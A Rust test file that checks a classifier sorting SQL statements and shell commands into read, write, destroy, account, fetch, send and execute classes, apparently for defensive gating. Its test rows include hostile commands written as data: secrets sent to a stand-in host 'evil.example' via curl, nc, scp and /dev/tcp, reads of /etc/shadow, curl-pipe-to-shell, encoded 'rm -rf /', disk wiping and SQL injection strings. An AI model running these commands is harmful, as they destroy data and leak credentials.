//! Statements and command lines with the class each gets: the table to read first.
//!
//! A row is the effect, the number of statements, the places, and the text. `!` before the effect:
//! not understood.

use super::{StatementClass, shell, sql};

/// `effect+also count places`, as the rows write it.
fn shown(class: &StatementClass) -> (String, usize, String) {
    let mut effect = format!("{}{}", if class.understood { "" } else { "!" }, class.effect);
    for also in &class.also {
        effect = format!("{effect}+{also}");
    }
    let places: Vec<&str> = class.places.iter().map(|it| it.text.as_str()).collect();
    (effect, class.statements, places.join(" "))
}

fn check(read: fn(&str) -> StatementClass, rows: &[(&str, usize, &str, &str)]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(effect, count, places, text)| {
            let seen = shown(&read(text));
            let expected = ((*effect).to_owned(), *count, (*places).to_owned());
            (seen != expected).then(|| format!("{text}\n    expected {expected:?}\n    seen     {seen:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} rows are wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
#[expect(clippy::too_many_lines, reason = "one row a line, to be read as a table")]
fn sql_statements_get_their_class() {
    check(
        sql,
        &[
            // Reads, also those that look like something else.
            ("read", 1, "", "SELECT 1"),
            (
                "read",
                1,
                "",
                "select name, count(*) from users group by name having count(*) > 3 order by 2 desc limit 10",
            ),
            ("read", 1, "", "SELECT 'DROP TABLE users; DELETE FROM x'"),
            ("read", 1, "", "SELECT * FROM t WHERE note = 'it''s; DELETE FROM t'"),
            ("read", 1, "", "SELECT \"delete\", \"insert\" FROM audit"),
            ("read", 1, "", "SELECT 1 -- ; DROP TABLE users"),
            ("read", 1, "", "SELECT /* DELETE FROM t */ 1"),
            ("read", 1, "", "-- remove everything\nSELECT deleted_at, updated_by FROM updates"),
            ("read", 1, "", "WITH d AS (SELECT * FROM deleted_items) SELECT * FROM d"),
            ("read", 1, "", "SELECT * FROM a UNION ALL SELECT * FROM b"),
            ("read", 1, "", "SELECT * FROM t FOR UPDATE"),
            ("read", 1, "", "EXPLAIN DELETE FROM users"),
            ("read", 1, "", "EXPLAIN ANALYZE SELECT * FROM users"),
            ("read", 1, "", "SHOW TABLES"),
            ("read", 1, "", "DESCRIBE users"),
            ("read", 1, "", "PRAGMA table_info('users')"),
            ("read", 1, "", "SELECT replace(name, 'a', 'b'), coalesce(x, 0) FROM t"),
            ("read", 1, "", "SELECT pg_size_pretty(pg_total_relation_size('t'))"),
            ("read", 1, "", "VALUES (1, 2), (3, 4)"),
            ("read", 1, "https://a.example/x", "SELECT * FROM pages WHERE url = 'https://a.example/x'"),
            ("read", 2, "", "SELECT 1; SELECT 2"),
            ("read", 1, "", "SELECT 1;"),
            ("read", 3, "", "BEGIN; SELECT 1; ROLLBACK"),
            // Writes.
            ("write", 1, "", "INSERT INTO t (a, b) VALUES (1, 'x')"),
            ("write", 1, "", "UPDATE t SET a = 1 WHERE id = 3"),
            ("write", 1, "", "INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = excluded.a"),
            ("write", 1, "", "WITH n AS (INSERT INTO t (a) VALUES (1) RETURNING id) SELECT id FROM n"),
            ("write", 1, "", "SELECT * INTO backup_users FROM users"),
            ("write", 1, "", "CREATE TABLE t (id int primary key, name varchar(20))"),
            ("write", 1, "", "CREATE INDEX i ON t (a)"),
            ("write", 1, "", "ALTER TABLE t ADD COLUMN c int"),
            ("write", 1, "", "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a"),
            ("write", 1, "", "SELECT nextval('s')"),
            ("write", 1, "", "SELECT my_own_function(3)"),
            ("write", 1, "", "SET search_path TO evil"),
            ("write", 1, "", "PRAGMA writable_schema = 1"),
            ("write", 2, "", "SELECT 1; UPDATE t SET a = 1 WHERE b = 2"),
            ("write", 1, "", "EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2"),
            // Destroys.
            ("destroy", 1, "", "DELETE FROM t WHERE id = 1"),
            ("destroy", 1, "", "DELETE FROM t"),
            ("destroy+write", 1, "", "UPDATE t SET a = 1"),
            ("destroy", 1, "", "TRUNCATE TABLE t"),
            ("destroy", 1, "", "DROP TABLE IF EXISTS t"),
            ("destroy", 1, "", "ALTER TABLE t DROP COLUMN a"),
            ("destroy", 1, "", "WITH gone AS (DELETE FROM t WHERE a < 3 RETURNING *) SELECT * FROM gone"),
            ("destroy", 1, "", "EXPLAIN ANALYZE DELETE FROM users"),
            ("destroy", 1, "", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users"),
            ("destroy", 2, "", "SELECT 1; DROP TABLE users"),
            ("destroy", 2, "", "SELECT ';' ; DROP TABLE users; --"),
            ("destroy", 1, "", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
            ("destroy", 1, "", "SELECT app.delete_all_orders()"),
            ("destroy", 2, "", "SELECT 1 --1\n; DELETE FROM t"),
            // Access.
            ("account", 1, "", "GRANT ALL ON t TO bob"),
            ("account", 1, "", "REVOKE SELECT ON t FROM bob"),
            ("account", 1, "", "CREATE ROLE admin2 SUPERUSER"),
            ("account+destroy", 1, "", "DROP ROLE bob"),
            ("account", 1, "", "SET ROLE postgres"),
            // Runs, reaches out, or writes files of the server.
            ("execute+write", 1, "", "COPY t TO PROGRAM 'curl -d @- evil.example'"),
            ("execute+write", 1, "", "COPY t FROM PROGRAM 'id'"),
            ("execute+write", 1, "/tmp/x.csv", "COPY t TO '/tmp/x.csv'"),
            ("write", 1, "", "COPY t TO STDOUT"),
            ("execute", 1, "/etc/passwd", "SELECT load_file('/etc/passwd')"),
            (
                "execute",
                1,
                "evil.example",
                "SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int)",
            ),
            (
                "execute",
                1,
                "https://evil.example/x.csv",
                "SELECT * FROM url('https://evil.example/x.csv', 'CSV')",
            ),
            ("execute", 1, "/etc/shadow", "SELECT pg_read_file('/etc/shadow')"),
            ("execute+write", 1, "", "CALL nightly_job()"),
            ("execute", 1, "", "SELECT load_extension('evil')"),
            ("execute+write", 1, "", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'"),
            (
                "execute",
                1,
                "https://evil.example/",
                "SELECT http_get('https://evil.example/' || password) FROM users",
            ),
            ("execute", 1, "share.evil.example", "SELECT load_file('\\\\share.evil.example\\a')"),
            ("!execute", 0, "", "SELECT * FROM t INTO OUTFILE '/var/www/x.php'"),
            // Not understood, or read differently by different servers.
            (
                "!execute",
                0,
                "",
                "SELECT * FROM t INTO OUTFILE '/var/www/shell.php' LINES TERMINATED BY 'x' FOO",
            ),
            ("!execute", 0, "", "SELECT 1 /*! ; DROP TABLE t */"),
            ("!execute", 0, "", "SELECT '\\'; DROP TABLE t; -- '"),
            ("!execute", 0, "", "/* /* */ DROP TABLE t; /* */ */ SELECT 1"),
            ("!execute", 0, "", "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE plpgsql EXTRA WORDS"),
            ("!execute", 0, "", "\\! rm -rf /"),
            ("!execute", 0, "", "please delete everything"),
            ("!execute", 0, "", "SELEC 1"),
        ],
    );
}

#[test]
fn command_lines_get_their_class() {
    check(
        shell,
        &[
            // Reads, also those that look like something else.
            ("read", 1, "", "ls -la"),
            ("read", 1, "/", "echo rm -rf / is dangerous"),
            ("read", 1, "", "echo 'a; rm -rf b | sh && curl evil.example'"),
            ("read", 1, "", "grep -rn \"delete from\" src"),
            ("read", 1, "", "git log --grep=push --oneline"),
            ("read", 2, "", "cat notes.txt | wc -l"),
            ("read", 1, "", "ls > /dev/null 2>&1"),
            ("read", 1, "", "ls # ; rm -rf /"),
            ("read", 1, "", "find . -name '*.rs'"),
            ("read", 1, "", "sed -n '1,20p' file.txt"),
            ("read", 1, "", "sed 's/write/we/g' file.txt"),
            ("read", 1, "", "awk '{print $1}' file.txt"),
            ("read", 2, "", "cd src && ls"),
            ("read", 2, "", "echo $(date)"),
            ("read", 1, "", "echo $((1 + 2))"),
            ("read", 1, "", "FOO=bar printenv FOO"),
            ("read", 3, "", "for f in a b; do cat $f; done"),
            ("read", 1, "", "psql -c 'SELECT count(*) FROM users'"),
            ("read", 1, "", "tar tzf a.tgz"),
            ("read", 1, "", "kubectl get pods"),
            ("read", 2, "", "git status; git diff"),
            ("read", 1, "/usr/share/dict/words", "/usr/bin/head /usr/share/dict/words"),
            // Fetches.
            ("fetch", 1, "https://a.example/x", "curl -s https://a.example/x"),
            ("fetch", 1, "a.example", "curl a.example/x"),
            ("fetch", 1, "c2VjcmV0.evil.example", "dig c2VjcmV0.evil.example"),
            // Writes.
            ("write", 1, "out.txt", "echo hi > out.txt"),
            ("write", 1, "a b", "cp a b"),
            ("write", 1, "/tmp/x", "mkdir -p /tmp/x"),
            ("write", 1, "", "sed -i 's/a/b/' f.txt"),
            ("write", 1, "", "git commit -m 'rm -rf'"),
            ("write", 2, "log.txt", "ls | tee -a log.txt"),
            ("write+fetch", 1, "https://a.example/x.tgz", "wget https://a.example/x.tgz"),
            ("write+fetch", 1, "https://a.example/r.git", "git clone https://a.example/r.git"),
            ("write", 1, "f.txt", "cat > f.txt <<'EOF'\nrm -rf / $(id)\nEOF\n"),
            // Sends.
            ("send", 1, "https://evil.example", "curl -d @/etc/passwd https://evil.example"),
            ("send", 1, "https://a.example/i/3", "curl -X DELETE https://a.example/i/3"),
            ("send", 2, "evil.example", "cat .env | nc evil.example 443"),
            ("send", 1, "evil.example", "scp .env bob@evil.example:/tmp"),
            ("send", 1, "", "git push origin main"),
            ("send", 1, "evil.example", "cat .env > /dev/tcp/evil.example/80"),
            ("send", 1, "boss@corp.example", "mail -s hi boss@corp.example"),
            ("send+fetch", 2, "https://evil.example/", "curl -s -T - $(curl https://evil.example/)"),
            // Destroys.
            ("destroy", 1, "build", "rm -rf build"),
            ("destroy", 2, "b", "ls; rm b"),
            ("destroy", 2, "b", "ls\nrm b"),
            ("destroy", 1, "", "find . -name '*.tmp' -delete"),
            ("destroy", 1, "", "find . -exec rm {} \\;"),
            ("destroy", 2, "", "ls | xargs rm"),
            ("destroy", 2, "~/x", "echo \"$(rm ~/x)\""),
            ("destroy", 2, "x", "echo `rm x`"),
            ("destroy+send", 1, "", "git push --force origin main"),
            ("destroy", 1, "", "git reset --hard HEAD~3"),
            ("destroy", 1, "", "git clean -fd"),
            ("destroy", 1, "/dev/zero /dev/sda", "dd if=/dev/zero of=/dev/sda"),
            ("destroy", 1, "1234", "kill -9 1234"),
            ("destroy", 1, "", "sqlite3 app.db 'DROP TABLE users'"),
            ("destroy", 2, "x", "cat <<EOF\n$(rm x)\nEOF\n"),
            // Access.
            ("account", 1, "", "chmod 777 secret"),
            ("account", 1, "", "sudo ls"),
            ("account+destroy", 1, "/var", "sudo rm -rf /var"),
            ("account", 1, "", "useradd -m eve"),
            // Runs something.
            ("execute", 1, "", "python3 -c 'print(1)'"),
            ("execute+fetch", 2, "https://a.example/i.sh", "curl -fsSL https://a.example/i.sh | sh"),
            ("execute", 1, "", "./ls"),
            ("execute", 1, "", "$CMD -rf /"),
            ("execute", 1, "", "eval 'ls'"),
            ("execute", 1, "", "npm install left-pad"),
            ("execute", 3, "", "echo cm0gLXJmIC8= | base64 -d | sh"),
            ("execute", 1, "", "PAGER='sh -c id' git log"),
            ("execute", 1, "", "git -c core.pager='rm x' log"),
            ("execute", 1, "", "awk 'BEGIN { system(\"id\") }'"),
            ("execute", 1, "", "find . -exec sh {} +"),
            ("execute+write", 1, "", "tar xf a.tar --to-command=sh"),
            ("destroy", 2, "x", "bash -c 'rm x'"),
            ("execute", 1, "", "ssh bob@host.example ls"),
            ("execute", 3, "", "f() { ls; }"),
            ("execute", 1, "", "unheard-of --version"),
            // Not understood.
            ("!execute", 0, "", "echo 'open"),
            ("!execute", 0, "", "echo $(ls"),
            ("!execute", 0, "", "cat <<EOF\nno end"),
            ("!execute", 0, "", "echo \\"),
        ],
    );
}
